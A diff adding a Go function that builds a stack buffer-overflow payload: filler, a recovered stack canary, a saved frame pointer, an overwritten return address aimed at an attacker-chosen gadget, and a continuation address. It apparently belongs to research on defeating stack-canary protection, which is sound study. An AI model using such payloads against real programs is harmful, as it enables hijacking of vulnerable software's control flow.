@@ -1,0 +1,28 @@
+package attack
+
+import "encoding/binary"
+
+// HijackPayload builds the full exploitation payload used once the canary is
+// known: fill the buffer, restore the (recovered) canary bytes so the
+// epilogue check passes, plant a benign saved-rbp value pointing at writable
+// memory, overwrite the return address with the gadget/function the attacker
+// wants to run, and leave a continuation address on the stack for that
+// function to return into.
+//
+// Layout written upward from the buffer start:
+//
+//	[ filler × bufLen ][ canary ][ savedRBP ][ target ][ continuation ]
+//
+// This is the paper's threat-model endgame: SSP only stands between the
+// overflow and this payload via the canary's secrecy.
+func HijackPayload(bufLen int, filler byte, canary []byte, savedRBP, target, continuation uint64) []byte {
+	p := make([]byte, 0, bufLen+len(canary)+24)
+	for i := 0; i < bufLen; i++ {
+		p = append(p, filler)
+	}
+	p = append(p, canary...)
+	p = binary.LittleEndian.AppendUint64(p, savedRBP)
+	p = binary.LittleEndian.AppendUint64(p, target)
+	p = binary.LittleEndian.AppendUint64(p, continuation)
+	return p
+}
